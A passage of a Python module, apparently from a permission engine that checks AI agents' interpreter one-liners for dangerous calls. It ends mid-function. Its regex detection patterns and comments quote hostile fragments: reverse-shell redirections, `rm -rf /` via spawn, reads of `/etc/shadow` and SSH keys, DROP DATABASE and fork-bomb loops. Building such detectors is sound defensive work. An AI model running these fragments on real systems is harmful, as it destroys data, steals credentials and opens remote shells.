"""Interpreter one-liners: `python -c`, `perl -e`, `ruby -e`, `node -e`, `php -r`, awk.

The engine does not parse these languages. It looks for the calls that matter to an
operator: running shell commands (whose literal arguments are then judged as shell),
deleting or writing files, evaluating generated code, forking without end. A one-liner
with none of them (`python3 -c 'print(2+2)'`) is a read.
"""

from __future__ import annotations

import itertools
import re

from aiperm_tui.policy import mlcode, toolbox
from aiperm_tui.policy.fspaths import classify, is_data_store, is_secret
from aiperm_tui.policy.hits import TO_PROVIDER, Hit
from aiperm_tui.policy.lazyre import lazy
from aiperm_tui.policy.model import Severity, severity_rank
from aiperm_tui.policy.normalize import Cmd, make_cmd
from aiperm_tui.policy.parse import Word

TYPE_CHECKING = False  # typing is not imported at run time (~2 ms of every check)

if TYPE_CHECKING:
    from aiperm_tui.policy.analysis import Analysis

INTERPRETERS = frozenset(
    {
        "python",
        "perl",
        "ruby",
        "node",
        "php",
        "lua",
        "awk",
        "deno",
        "bun",
        "Rscript",
        "tclsh",
        "pwsh",
        "osascript",
        "jrunscript",
        "julia",
        "erl",
        "guile",
        "racket",
    }
)
_CODE_FLAGS = {
    "python": "c",
    "perl": "eE",
    "ruby": "e",
    "node": "ep",
    "php": "r",
    "lua": "e",
    "deno": "",
    "bun": "e",
    "Rscript": "e",
    "tclsh": "",
    "pwsh": "c",
    "osascript": "e",
    "jrunscript": "e",
    "julia": "eE",
    "erl": "",
    "guile": "c",
    "racket": "e",
}
_LONG_CODE = ("eval", "print", "command")
# Code given after a single-dash long option (`erl -eval EXPR`) or a subcommand
# (`deno eval CODE`).
_WORD_CODE = {"erl": "-eval", "deno": "eval"}

_STRING = r"""(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")"""
_EXEC_CALL = lazy(
    r"(?:os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|commands\.\w+|"
    r"\bsystem(?![_a-zA-Z]|\s*\(\s*\))|\bexec(?:Sync|FileSync)?(?!\w)|\bspawn(?:Sync)?|\bpopen|\bPopen|\bcheck_output|"
    r"\bcheck_call|\bqx|%x|\bIO\.popen|Open3\.\w+|shell_exec|passthru|proc_open|pcntl_exec|"
    # Java's process API (jrunscript, jjs, groovy): `new ProcessBuilder(...)`, Runtime.exec
    r"\bProcessBuilder|\bgetRuntime\(\)\.exec|"
    # erlang's os:cmd and ports, tcl's exec, julia's run of a command literal
    r"\bos:cmd|\bopen_port|\brun(?=\s*\(\s*`)|"
    # deno's and bun's process APIs
    r"\bDeno\.(?:run|Command)|\bBun\.(?:spawn(?:Sync)?|\$))"
    r"\s*[({]?\s*(\[[^\]]*\]|" + _STRING + r")?"
)
# A bare shell (`pty.spawn("/bin/sh")`, `exec("/bin/bash -i")`): what it runs is typed
# into it later, never given on the line.
_INTERACTIVE_SHELL = lazy(r"(?:/usr)?(?:/bin/)?(?:ba|da|z|k|c|tc|fi|a)?sh(?:\s+-\w*i\w*|\s+-l)*")
_BACKTICK = lazy(r"`([^`]+)`")
# Library calls that delete files, by language. `tree` calls remove whole folders.
_DELETE_CALL = lazy(
    r"\b(?P<tree>rmtree|remove_tree|rimraf|emptyDirSync|removedirs|remove_dir_all|"
    r"delete-directory/files)(?![\w-])"
    r"|\bFileUtils\.(?P<fu>rm_rf|rm_r|remove_dir|remove_entry\w*|rm_f|rm|remove|"
    r"safe_unlink)\b"
    r"|(?:\b(?:fs|fsPromises|promises|fse)|\))\.(?P<fs>rmSync|rmdirSync|unlinkSync|rm|rmdir|"
    r"unlink|remove|removeSync)\b"
    r"|\b(?:os|File|Dir|Path|Deno)\.(?P<os>remove|unlink|rmdir|delete)(?:Sync)?\b"
    r"|\.(?P<meth>unlink|rmdir)\s*\("
    r"|(?<![.\w$-])(?P<bare>unlink|rmdir|delete-file|delete-directory(?!/))\b"
    # Julia's `rm(path; recursive=true)` (R's `rm()` drops variables: julia only), and
    # node's `rm`/`rmSync` imported by name from its fs module (`_FS_IMPORT`)
    r"|(?<![.\w$])(?P<jl>rm|rmSync)(?=\s*\()"
)
# `import {rm} from "node:fs/promises"`, `const {rmSync} = require("fs")`: the bare call
# later on the line is the fs module's delete.
_FS_IMPORT = lazy(
    r"(?:\bimport\s*\{[^}]*\}\s*from|\{[^}]*\}\s*=\s*(?:await\s+)?(?:require|import)\s*\()"
    r"\s*[\"'](?:node:)?fs(?:/promises)?[\"']"
)
_RECURSIVE_FILEUTILS = ("rm_rf", "rm_r", "remove_dir", "remove_entry")
# A walk over a whole tree (perl's File::Find, python's os.walk and rglob, ruby's Find and
# `**` globs, Go's and Rust's walkers): a delete or a write inside it acts on every file
# below the folder, as `find DIR -delete` or `find DIR -exec truncate` does.
_TREE_WALK = lazy(
    r"\b(?:finddepth|File::Find|os\.walk|rglob|Find\.find|walkdir|WalkDir|filepath\.Walk|"
    r"readdirSync\s*\([^)]*recursive)\b|\*\*/"
)
# A delete call told to recurse by a named argument (R's `unlink(x, recursive = TRUE)`,
# `fs.rm(p, {recursive: true})`).
_RECURSIVE_ARGUMENT = lazy(r"\brecursive\s*[:=]\s*(?:TRUE|True|true|T|1)\b")
_WRITE = lazy(
    r"open\([^)]*,\s*['\"][wax+]|\bwrite_(text|bytes)\(|\bwriteFile(Sync)?\b|\bFile\.write|"
    r"\bopen\s*\(?\s*(?:my\s+)?[$\w]*\s*,?\s*['\"][>+]|\brename\b|\bchmod\b|\bchown\b|\bmove\(|"
    r"\bcopy(file|tree)?\(|\bsymlink\b|\bmkdir|\bappendFile|file_put_contents|\bkill\b|"
    r"\btruncate\b|\burlretrieve\b|\bdownload_file\b|\bcopyfileobj\b|"
    # Bun's and Deno's file writes, Racket's and Guile's output files, R's and Julia's
    r"\bBun\.write\b|\bDeno\.(?:write|create|copyFile|rename|symlink|truncate)\w*|"
    r"\b(?:call-)?with-output-to-file\b|\bcall-with-output-file\b|\b(?:display|write)-to-file\b|"
    r"\bcopy-file\b|\brename-file-or-directory\b|\bwriteLines\s*\(|"
    r"\bfile\.(?:create|copy|rename|append)\s*\(|(?<![.\w$])(?:write|cp|mv|touch)\s*\(\s*['\"]|"
    # Java's writers (jrunscript, jjs), node's write streams, ruby's and julia's copies and
    # downloads, and a mode argument that writes closing any open() (`open(f->..., F,
    # "w")`, lua's `io.open(F, "wb")`): GTFOBins' file writes and downloads (lead17)
    r"\b(?:FileWriter|FileOutputStream|createWriteStream|copy_stream|Files\.write)\b|"
    r"(?<![.\w$])download\s*\(|\bopen\b[^;\n]*,\s*['\"][wa]b?\+?['\"]\s*\)"
)
# A write that starts the file over: `open(F, 'w')`, `truncate`, `write_text`, node's
# `writeFileSync`, PHP's `file_put_contents` without FILE_APPEND.
_TRUNCATING = lazy(
    r"open\([^)]*,\s*['\"]w|\btruncate\b|\bwrite_(?:text|bytes)\(|\bwriteFile(?:Sync)?\b|"
    r"\bfile_put_contents\((?![^)]*FILE_APPEND)|\bopen\s*\(?\s*(?:my\s+)?[$\w]*\s*,?\s*['\"]>(?!>)"
)
_DYNAMIC = lazy(
    r"\b(exec|eval|compile|__import__|Function|instance_eval|"
    r"b64decode|decode64|atob|unpack)\s*\(|"
    # perl's and ruby's `eval EXPR` without parentheses (`eval pack("H*", ...)`)
    r"\beval\s+(?=[\w$\"'`])"
)
_FORK_BOMB = lazy(
    r"fork\s+while\s+(fork|1|true)|while\s*\(?\s*(True|1|true)\s*\)?\s*"
    r"[:{]?\s*(?:[\w$]+(?:\.|::|->|_))?fork\b|for\s*\(;;\)\s*\{?\s*fork|"
    r"loop\s*\{\s*fork|"
    # a loop whose own condition forks (perl's `1 while fork`, python's `while
    # os.fork() or True`): every round is one more process
    # (also through `defined(...)`: `1 while defined(fork())`)
    r"\bwhile\s*\(?\s*(?:defined\s*\(?\s*)?(?:[\w$]+(?:\.|::|->))?fork\b"
)
# A loop that never ends around a call that starts a process and does not wait for it
# (`[os.fork() for _ in iter(int, 1)]`, `for(;;) spawn(...)`): processes pile up until the
# machine stops, whatever each one runs.
_ENDLESS = lazy(
    r"\bwhile\s*\(?\s*(True|1|true|!0)\s*\)?|\bfor\s*\(\s*;\s*;\s*\)|"
    r"\biter\s*\(\s*int\s*,|\bitertools\.(count|repeat|cycle)\s*\(|\bloop\s*(\{|do\b)|"
    r"\bsetInterval\s*\(|"
    # a count no machine reaches (`fork() for 1..1e9`, `range(10**9)`)
    r"\.\.\s*(?:\d{7,}|\d+(?:\.\d+)?e\d+)\b|\brange\s*\(\s*(?:\d{7,}|10\s*\*\*\s*\d|\d+e\d)"
)
# A memory bomb: an endless loop that doubles a value (`a += a`, `s .= s`, `x *= 2`) or
# keeps appending with nothing that stops or slows it, or one huge allocation (`'x' *
# 10**12`, `bytearray(1 << 40)`): the host swaps and the OOM killer takes its services.
_GROWS = lazy(
    r"\b(\w+)\s*(?:\+|\.|<<)=\s*[$@]?\1\b|\b\w+\s*\*=\s*\d|"
    r"\b(\w+)\s*=\s*[$@]?\2\s*[+*.]\s*[$@]?\2\b|"
    r"\.(?:append|push|extend|concat|add)\s*\(|<<\s*\w"
)
_STOPS = lazy(r"\b(?:break|sleep|return|exit|last|die|raise|throw|timeout)\b")
_HUGE = lazy(
    r"\*\s*\(?\s*(?:10\s*\*\*\s*(?:1[0-9]|[2-9]\d)|\d{11,}|2\s*\*\*\s*[4-9]\d|1\s*<<\s*[4-9]\d)|"
    r"\b(?:bytearray|bytes|Buffer\.alloc|malloc|calloc)\s*\(\s*(?:10\s*\*\*\s*(?:1[0-9]|[2-9]\d)|"
    r"\d{11,}|2\s*\*\*\s*[4-9]\d|1\s*<<\s*[4-9]\d)"
)
_NO_WAIT_SPAWN = lazy(
    r"\b(?:\w+_)?fork\b|\bspawn\s*\(|\bPopen\s*\(|\bProcess\s*\(|\bThread\s*\(|"
    r"\.exec(File)?\s*\(|P_NOWAIT|\bspawn_?[lv]p?e?\s*\(|\bProcess\.spawn\b|"
    # lua's and php's popen start the program and return at once
    r"\bio\.popen\s*\(|\bpopen\s*\("
)
_NET = lazy(
    r"\b(socket|urllib|requests|http\.client|urlopen|Net::HTTP|LWP|fetch(?=\s*\()|"
    r"XMLHttpRequest|IO::Socket|TCPSocket|net\.connect|fsockopen|stream_socket_client|"
    r"curl_exec|socketserver|SocketServer|SimpleHTTPServer|HTTPServer|WEBrick|createServer)\b|"
    r"\bhttp\.server\b|"
    # lua's socket library, whose name the string mask hides: its constructors
    # (`socket.tcp()`, `s.udp()`) and a connection's calls (`t:connect(h, p)`, `t:send(d)`)
    r"\b\w+\.(?:tcp|udp)[46]?\s*\(|\b\w+:(?:connect|send|sendto|setpeername)\s*\(|"
    # node's http(s) modules, whose names the string mask hides: `require("https").request`
    r"\brequire\(\s*[\"'][^\"']*[\"']\s*\)\.(request|get)\b"
)

# A native library loaded by the one-liner (python's ctypes, ruby's Fiddle, perl's
# DynaLoader and FFI, LuaJIT's and node's loaders, Java's System.load): its
# constructors run as soon as it is loaded, code the line does not show (GTFOBins'
# library-load; lead17).
_LIBRARY_LOAD = lazy(
    r"\b(?:cdll|CDLL|PyDLL|LoadLibrary|dlopen|Fiddle|DynaLoader|dl_load_file|FFI::Platypus|"
    r"ffi\.load|process\.dlopen|System\.load(?:Library)?|Native\.load)\b"
)

# A one-liner that connects or accepts a raw connection (a socket's descriptors become a
# shell's input and output in the reverse- and bind-shell recipes of every language).
_SOCKET = lazy(
    r"\b(?:connect|create_connection|fsockopen|stream_socket_client|stream_socket_server|"
    r"TCPSocket|TCPServer|UNIXSocket|IO::Socket::INET|createConnection|listen|accept)\b"
)

# The shell such a recipe starts: interactive, or bare, its descriptors redirected to the
# socket's (`/bin/sh -i <&3 >&3 2>&3`).
_SOCKET_SHELL = lazy(r"\s*(?:\S*/)?(?:ba|z|da|k|a|c|tc)?sh(?:\s+-i\b|\s*$|\s+[<>0-9&%d\s-]+$)")

# A file call given a URL (php's `file_get_contents("http://...")`, `fopen`, `copy`):
# the stream wrapper fetches it, so the call talks to the network (the mask hides the
# string, so this reads the text).
_URL_CALL = lazy(
    r"\b(?:file_get_contents|fopen|readfile|copy|file|get_headers)\s*\(\s*['\"](?:https?|ftp)://"
)

# The library calls that open a file by its name, in the languages the one-liners use.
_READ_CALLS = (
    r"\bopen|readFileSync|createReadStream|File\.read|IO\.read|File\.open|file_get_contents|fopen"
)

# A library call that reads a file named by a literal (`open("/var/x")`, `File.read`,
# `readFileSync`, `file_get_contents`, pathlib's `read_text`), not one that opens it for
# writing.
_FILE_READ = lazy(
    rf"(?:{_READ_CALLS}|read_text|read_bytes)\s*\(\s*(?:Path\(\s*)?['\"](?![a-z]+://)"
    r"([^'\"]+)['\"](?!\s*,\s*['\"][wa])"
)

# The same calls given a name read at run time from the environment or the arguments
# (`io.open(os.getenv("LFILE"))`, `open(os.environ["F"])`, `File.read(ENV["F"])`): the
# catalogues' upload recipes name the file so, and it may be any file (eighteenth pass).
_FILE_READ_NAMED_LATER = lazy(
    rf"(?:{_READ_CALLS})\s*\(\s*(?:os\.getenv|os\.environ|getenv|ENV\b|\$ENV\b|"
    r"\$_ENV\b|\$_SERVER\b|process\.env|Deno\.env|sys\.argv|ARGV|\$ARGV|arg\s*\[)"
)


def _literals(text: str) -> list[str]:
    return [a if a else b for a, b in re.findall(_STRING, text)]


_ESCAPED = lazy(r"\\([\"'\\nt])")
_ESCAPES = {"n": "\n", "t": "\t"}


def _unescaped(literal: str) -> str:
    """A string literal's text as the program has it: `\\"` is a quote, `\\n` a line
    break (`system("mysql -e \\"DROP DATABASE shop\\"")` runs `mysql -e "DROP ..."`)."""
    return _ESCAPED.sub(lambda m: _ESCAPES.get(m.group(1), m.group(1)), literal)


def _shell_from_call(match: re.Match[str]) -> str | None:
    group = match.group(1)
    if group is None:
        return None
    if group.startswith("["):
        return " ".join(map(_unescaped, _literals(group))) or None
    return _unescaped(match.group(2) if match.group(2) is not None else match.group(3))


def _program_and_arguments(text: str, masked: str, m: re.Match[str]) -> str | None:
    """`spawnSync('rm', ['-rf', '/'])`, `os.execvp("rm", ["rm", "-rf", "/"])`, ruby's and
    perl's `system("rm", "-rf", "/srv")`: a program name then its arguments, as a list or
    one literal each, joined into one command (None for other call shapes)."""
    stop = re.search(r"[;\n]", masked[m.start() :])
    call = text[m.start() : m.start() + stop.start() if stop else len(text)]
    found = _literals(call)
    if "[" not in call and found and re.fullmatch(r"[rwab+]{1,3}", found[-1]):
        found = found[:-1]  # `popen("hostname", "r")`: the mode, no argument
    if len(found) < 2 or not re.fullmatch(r"[\w./-]+", found[0]):
        return None
    rest = found[1:]
    if rest[0] == found[0] or rest[0].rsplit("/", 1)[-1] == found[0].rsplit("/", 1)[-1]:
        rest = rest[1:]  # execvp("rm", ["rm", ...]): argv[0] repeats the program
    return " ".join([found[0], *rest])


# A process module imported under another name (`import subprocess as s`, `from os
# import system as run`): its calls are the module's, whatever the name.
_ALIASED_MODULE = lazy(r"\bimport\s+(subprocess|os|commands)\s+as\s+(\w+)")


def _dealiased(text: str) -> str:
    """`import subprocess as s; s.run([...])` calls `subprocess.run`: the alias is
    written back as the module's name, so the calls that start programs are seen."""
    for m in _ALIASED_MODULE.finditer(text):
        text = re.sub(rf"(?<![\w.]){re.escape(m.group(2))}\.", f"{m.group(1)}.", text)
    return text


def judge_code(an: Analysis, cmd: Cmd, text: str, words: list[Word]) -> None:
    """Scan one-liner source `text` (carried by `words`) for what matters."""
    span = (words[0].start, words[-1].end) if words else cmd.span
    lang = cmd.name
    text = _dealiased(text) if lang == "python" else text
    ran_shell = False
    masked = _mask_strings(text)
    for hit_in_code in _EXEC_CALL.finditer(masked):  # a call named inside a string is data
        m = _EXEC_CALL.match(text, hit_in_code.start())
        if m is None or (lang == "python" and re.match(r"exec\s*\(", m.group(0))):
            continue  # python's exec() evaluates python (judged as generated code below)
        ran_shell = True
        shell = _program_and_arguments(text, masked, m) or _shell_from_call(m)
        if shell and _INTERACTIVE_SHELL.fullmatch(shell.strip()):
            an.add(
                Hit(
                    "exec.interpreter_shell",
                    "high",
                    f"{lang} starts a shell whose commands come from its program (a socket, "
                    "a pty the agent drives): none of them is shown for review",
                    span,
                    "unknown",
                )
            )
        elif shell:
            an.payload(shell, words, "exec.interpreter_shell", f"{lang} runs a shell command")
        else:
            an.add(
                Hit(
                    "exec.interpreter_shell",
                    "high",
                    f"{lang} runs a shell command that is only known at run time",
                    span,
                    "unknown",
                )
            )
    for m in _BACKTICK.finditer(masked) if lang in ("perl", "ruby", "php", "julia") else ():
        ran_shell = True
        an.payload(m.group(1), words, "exec.interpreter_shell", f"{lang} runs a shell command")
    if ran_shell and _SOCKET.search(masked) and any(map(_SOCKET_SHELL.match, _literals(text))):
        an.add(
            Hit(
                "net.remote_shell",
                "critical",
                f"{lang} connects a socket and starts a shell on it: a reverse or bind shell, "
                "as `nc -e sh`",
                span,
                "system",
            )
        )
    if ran_shell:
        an.add(
            Hit(
                "exec.interpreter_shell",
                "medium",
                f"{lang} one-liner runs shell commands",
                span,
                "unknown",
            )
        )
    _driver_sql(an, cmd, text)
    _judge_effects(an, lang, text, span)
    if lang == "python":
        mlcode.judge_python_models(an, cmd, text, span)


# A database driver handed SQL as a string literal (`cursor().execute('DROP TABLE x')`,
# SQLAlchemy's `text(...)`, `executescript`), its statement starting as SQL does: judged as
# the same SQL given to a client (sixteenth pass).
_SQL_CALL = lazy(
    r"\.(?:execute|executemany|executescript|exec_driver_sql|query|raw|sql)\s*\(\s*"
    r"(?:text\s*\(\s*)?(?:[rbuf]{0,2})(['\"])((?:\\.|(?!\1).)*)\1"
)
_SQL_START = lazy(
    r"(?is)^\s*(?:select|insert|update|delete|drop|truncate|alter|create|grant|revoke|with|"
    r"copy|vacuum|reindex|call|do|set|reset|purge|flush|shutdown|kill|rename|replace)\b"
)
# Every item of a collection deleted by an SDK or ORM call (`boto3 ... Bucket(B).objects.
# all().delete()`, Django's `Model.objects.all().delete()`, `delete_many({})`), or the
# store itself: the one-liner's version of `aws s3 rm --recursive` or `DELETE` with no WHERE.
_BULK_DELETE = lazy(
    r"\.all\(\)\s*\.delete\(\)|\.(?:objects|object_versions)\s*\.delete\(\)|"
    r"\bdelete_objects\s*\(|\bdelete_bucket\s*\(|\b(?:delete_many|deleteMany|remove)\s*\(\s*\{\s*\}\s*\)|"
    r"\.(?:drop_database|drop_collection)\s*\(|\.drop\(\)"
)


def _driver_sql(an: Analysis, cmd: Cmd, text: str) -> None:
    """The SQL a one-liner hands a database driver, judged statement by statement as a
    client's (`judges.databases.judge_sql`), and an SDK's or ORM's delete of a whole
    collection (typed, as `DELETE` with no `WHERE` is)."""
    from aiperm_tui.policy.judges.databases import judge_sql  # judges import this module

    for m in _SQL_CALL.finditer(text):
        sql = _unescaped(m.group(2))
        if _SQL_START.match(sql):
            for found in judge_sql(cmd, sql):
                an.add(found)
    if (bulk := _BULK_DELETE.search(_mask_strings(text))) is not None:
        an.add(
            Hit(
                "code.bulk_delete",
                "high",
                f"{cmd.name} one-liner deletes every item of a bucket, table or collection "
                f"({bulk.group(0)}), or the store itself",
                cmd.span,
                "system",
            )
        )


def _judge_effects(an: Analysis, lang: str, text: str, span: tuple[int, int]) -> None:
    # a `\n` written in the code is read as the line break it was meant to be (the
    # statement after it is a loop that forks, whether or not the language agrees)
    lines = text.replace("\\n", "\n")
    if _FORK_BOMB.search(lines) or (_ENDLESS.search(text) and _NO_WAIT_SPAWN.search(text)):
        an.add(
            Hit(
                "exec.fork_bomb",
                "critical",
                f"{lang} fork bomb: forks until the machine stops",
                span,
                "system",
            )
        )
    masked = _mask_strings(text)
    if _HUGE.search(masked) or (
        _ENDLESS.search(masked) and _GROWS.search(masked) and not _STOPS.search(masked)
    ):
        an.add(
            Hit(
                "exec.memory_bomb",
                "critical",
                f"{lang} memory bomb: grows a value without end (or allocates terabytes) until "
                "the host swaps and the OOM killer takes its services",
                span,
                "system",
            )
        )
    deletes = [
        _delete_hit(lang, text, masked, m, span)
        for m in _DELETE_CALL.finditer(masked)
        if not m.group("jl") or lang == "julia" or (lang != "R" and _FS_IMPORT.search(text))
    ]
    for found in deletes:
        an.add(found)
    _secret_literal(an, lang, text, span)  # after: deleting a key is told as a delete
    _callback(an, lang, text, span)
    classes = {classify(lit) for lit in _literals(text) if lit.startswith(("/", "~"))}
    if not deletes and _WRITE.search(text):
        # a file written from an address (`copy("http://...", "/usr/local/bin/x")`) is
        # code downloaded and put in place unreviewed
        fetched = bool(_URL_LITERAL.search(text))
        # a write inside a walk of a system, home or root tree rewrites every file of it
        walked = bool(_TREE_WALK.search(text)) and bool(
            (classes | _walked_roots(text)) & {"root", "system", "home", "critical", "dynamic"}
        )
        # a log or a backup opened for writing from its start is emptied (`open(LOG,
        # 'w').close()`), as `> LOG` is: the audit trail or the copy is gone
        emptied = _TRUNCATING.search(text) is not None and any(
            classify(lit) == "log" or is_data_store(lit)
            for lit in _literals(text)
            if lit.startswith(("/", "~"))
        )
        severity: Severity = (
            "high"
            if fetched or walked or emptied or classes & {"critical", "device", "root"}
            else "medium"
        )
        what = (
            "rewrites every file a walk of the tree finds"
            if walked
            else "empties a log or a backup"
            if emptied
            else "changes files or processes"
        )
        an.add(Hit("fs.interpreter_write", severity, f"{lang} one-liner {what}", span))
    _library_load(an, lang, text, masked, span)
    if _DYNAMIC.search(masked):
        an.add(
            Hit(
                "exec.interpreter_eval",
                "high",
                f"{lang} one-liner evaluates code built at run time",
                span,
                "unknown",
            )
        )
    if _NET.search(masked) or _URL_CALL.search(text):
        _network_use(an, lang, text, span)
    if _LOCAL_MODULE.search(text):
        # `require('./dist/bench/render.js')`: the project's own code runs, as `node
        # dist/bench/render.js` would (a plain yes; seventeenth pass)
        an.add(
            Hit(
                "exec.interpreter_module",
                "medium",
                f"{lang} one-liner loads a module of the project by its path: its code runs",
                span,
                "unknown",
            )
        )


def _network_use(an: Analysis, lang: str, text: str, span: tuple[int, int]) -> None:
    """A one-liner that uses the network: a plain finding, typed when it takes the
    environment whole (its tokens may go with the request: seventeenth pass) or reads a
    file (its content can leave this machine)."""
    if _ENV_WHOLE.search(text):
        an.add(
            Hit(
                "net.interpreter_env_sent",
                "high",
                f"{lang} one-liner uses the network and takes the environment whole: its "
                "tokens and passwords may be sent with the request",
                span,
            )
        )
    else:
        an.add(Hit("net.interpreter", "low", f"{lang} one-liner uses the network", span))
    read = _FILE_READ.search(text)
    named = read.group(1) if read is not None else None
    if named is None and _FILE_READ_NAMED_LATER.search(text):
        named = "a file named by its environment or arguments"
    if named is not None:
        an.add(
            Hit(
                "net.interpreter_upload",
                "high",
                f"{lang} one-liner reads {named} and uses the network: the "
                "file's content can leave this machine",
                span,
                "unknown",
            )
        )


def _library_load(an: Analysis, lang: str, text: str, masked: str, span: tuple[int, int]) -> None:
    """A native library loaded: a plain yes for one the system installs (`CDLL("libc.so.6")`
    to trim memory), typed from a folder anyone can write or the agent filled (a temp
    folder, a relative or computed path): unreviewed code."""
    if not _LIBRARY_LOAD.search(masked):
        return
    paths = [lit for lit in _literals(text) if ".so" in lit or lit.endswith((".dylib", ".dll"))]
    unreviewed = not paths or any(
        classify(lit) in ("temp", "dynamic") or (not lit.startswith("/") and "/" in lit)
        for lit in paths
    )
    an.add(
        Hit(
            "exec.interpreter_library",
            "high" if unreviewed else "medium",
            f"{lang} one-liner loads a native library"
            + (
                " from a temp folder or a path the line does not fix: its code runs unreviewed"
                if unreviewed
                else ": its code runs in the process"
            ),
            span,
            "unknown",
        )
    )


# A function handed over by its name (`array_map("unlink", ...)`, `array_walk($a,
# "unlink")`, ruby's `method(:system)`): the string mask hides the name from the call
# patterns above.
_CALLBACK = lazy(
    r"\b(?:array_map|array_walk(?:_recursive)?|array_filter|array_reduce|call_user_func(?:_array)?|"
    r"u[ak]?sort|register_shutdown_function|register_tick_function|forward_static_call(?:_array)?|"
    r"iterator_apply)\s*\([^;]*?['\"](unlink|rmdir|system|exec|passthru|shell_exec|popen|"
    r"proc_open|assert)['\"]|\bmethod\s*\(\s*:(system|exec|spawn)\b"
)
_URL_LITERAL = lazy(r"['\"](?:https?|ftp)://")


def _callback(an: Analysis, lang: str, text: str, span: tuple[int, int]) -> None:
    m = _CALLBACK.search(text)
    if m is None:
        return
    name = m.group(1) or m.group(2)
    deletes = name in ("unlink", "rmdir")
    an.add(
        Hit(
            "fs.interpreter_delete" if deletes else "exec.interpreter_shell",
            "high",
            f"{lang} one-liner calls {name} through a function named by a string "
            f"({'deletes files' if deletes else 'runs code'} the engine cannot list)",
            span,
            "unknown",
        )
    )


# The process environment as each language reads it (python's `os.environ`/`getenv`,
# node's `process.env`, ruby's `ENV[`, perl's `%ENV`/`$ENV{`, php's `getenv`, awk's
# `ENVIRON`), and a credential's name written in the same program (a string, a regular
# expression, an attribute): `{k: v for k, v in os.environ.items() if "TOKEN" in k}`
# prints the secrets as `env | grep TOKEN` does.
_ENV_OBJECT = lazy(
    r"\bos\.(?:environ|getenv)\b|\bprocess\.env\b|\bENV\s*[\[.]|%ENV\b|\$ENV\s*\{|"
    r"\bgetenv\s*\(|\bENVIRON\b|\bSystem\.getenv\b|\bDeno\.env\b|\bBun\.env\b"
)
# A module loaded by a relative or absolute path (node's `require('./x')`, a dynamic
# `import('../x.mjs')`, ruby's `require_relative`, python's `runpy.run_path`, php's
# `require 'x.php'`): the file's top-level code runs. A `.json` file is data.
_LOCAL_MODULE = lazy(
    r"""\b(?:require|import)\s*\(\s*['"`]\.{0,2}/(?![^'"`]*\.json['"`])|\brequire_relative\b|"""
    r"""\brunpy\.run_path\b|\b(?:require|include)(?:_once)?\s*\(?\s*['"][^'"]+\.php['"]"""
)
# The environment taken whole, not one variable of it (`JSON.stringify(process.env)`,
# `dict(os.environ)`, `Deno.env.toObject()`, perl's `%ENV`, ruby's `ENV.to_h`).
_ENV_WHOLE = lazy(
    r"\bprocess\.env\b(?!\s*(?:\??\.|\[))|\bos\.environ\b(?!\s*(?:\[|\.get\b))|"
    r"\bDeno\.env\.toObject\b|\bBun\.env\b(?!\s*(?:\??\.|\[))|%ENV\b|"
    r"\bENV\.(?:to_h|to_a|inspect|each)\b|\bENVIRON\b(?!\s*\[)"
)
# The environment's names alone, no value (`Object.keys(process.env)`, `os.environ.keys()`,
# `ENV.keys`, `list(os.environ)`): left out before the whole environment is looked for
_ENV_NAMES = lazy(
    r"\bObject\.keys\(\s*(?:process\.env|Deno\.env\.toObject\(\s*\)|Bun\.env)\s*\)|"
    r"\bos\.environ\.keys\(\s*\)|\bENV\.keys\b|\b(?:list|sorted|len)\(\s*os\.environ\s*\)"
)
# What prints a value in a one-liner (node's and deno's console, python's and php's
# print, ruby's p/puts/pp, perl's print/say, php's var_dump/echo)
_PRINTS = lazy(
    r"\bconsole\.(?:log|dir|table|info|warn|error)\b|\bprint(?:ln|f|_r)?\b|\bputs\b|\bpp?\b|"
    r"\bsay\b|\bvar_(?:dump|export)\b|\becho\b|\bDeno\.stdout\b|\bprocess\.stdout\b|"
    r"\bsys\.stdout\b|\bpprint\b|\bjson\.dumps?\b|\bJSON\.stringify\b"
)
# php's whole environment: `getenv()` with no name, `$_ENV` not indexed
_PHP_ENV_WHOLE = lazy(r"\bgetenv\s*\(\s*\)|\$_ENV\b(?!\s*\[)")
_ENV_SECRET_NAME = lazy(
    r"(?i)secret|token|passw(?:or)?d|passphrase|api_?key|private_?key|access_?key|credential"
)


def _secret_literal(an: Analysis, lang: str, text: str, span: tuple[int, int]) -> None:
    """A credential's path written in the program (`open('/etc/shadow').read()`,
    `getline < "/root/.ssh/id_rsa"`, PowerShell's bare `Get-Content /etc/shadow`): the
    program reads it, as `cat` would; or the environment read with a credential's name
    written in the program (`_ENV_OBJECT`)."""
    words = [w.strip("'\"(),;{}") for w in text.split()] if lang == "pwsh" else []
    if _ENV_OBJECT.search(text) and _ENV_SECRET_NAME.search(text):
        an.add(
            Hit(
                "secret.read",
                "high",
                f"{lang} program prints credentials from the environment (a name like a "
                "token's, secret's or password's): they go to the model provider",
                span,
            )
        )
        return
    if _prints_environment(text):
        an.add(
            Hit(
                "secret.read",
                "high",
                f"{lang} program prints the environment whole, the tokens and passwords in "
                "it too: " + TO_PROVIDER,
                span,
            )
        )
        return
    found = next((lit for lit in [*_literals(text), *words] if is_secret(lit)), None)
    if found is not None:
        an.add(
            Hit(
                "secret.read",
                "high",
                f"{lang} program reads {found}, a credential: " + TO_PROVIDER,
                span,
            )
        )


def _prints_environment(text: str) -> bool:
    """Does a one-liner print the process environment whole (`console.log(Deno.env
    .toObject())`, `print(dict(os.environ))`, `p ENV.to_h`, `print_r(getenv())`)? A
    credential sits there beside the locale (left18: v16 labels it critical, as a
    program reading `/proc/self/environ` is). Its names alone print no value."""
    rest = _ENV_NAMES.sub(" ", text)
    whole = _ENV_WHOLE.search(rest) or _PHP_ENV_WHOLE.search(rest)
    return whole is not None and _PRINTS.search(rest) is not None


def _walked_roots(text: str) -> set[str]:
    """The classes of the folders a pattern walks from (`/home/*/public_html/**/*.php`
    walks every account's folder under `/home`): the literal's part before its first
    wildcard."""
    roots = (lit.split("*", 1)[0].rsplit("/", 1)[0] for lit in _literals(text) if "*" in lit)
    return {classify(root or "/") for root in roots if root.startswith("/") or root == ""}


def _delete_hit(lang: str, text: str, masked: str, m: re.Match[str], span: tuple[int, int]) -> Hit:
    """One library delete call, as bad as deleting its path argument with `rm`."""
    call = next(v for v in m.groupdict().values() if v)
    recursive = (
        bool(m.group("tree"))
        or (bool(m.group("fu")) and call.startswith(_RECURSIVE_FILEUTILS))
        or (m.group("fs") in ("remove", "removeSync"))
        or (bool(m.group("fs") or m.group("os")) and "recursive" in text)
        or bool(_RECURSIVE_ARGUMENT.search(text))
        or bool(_TREE_WALK.search(text))
    )
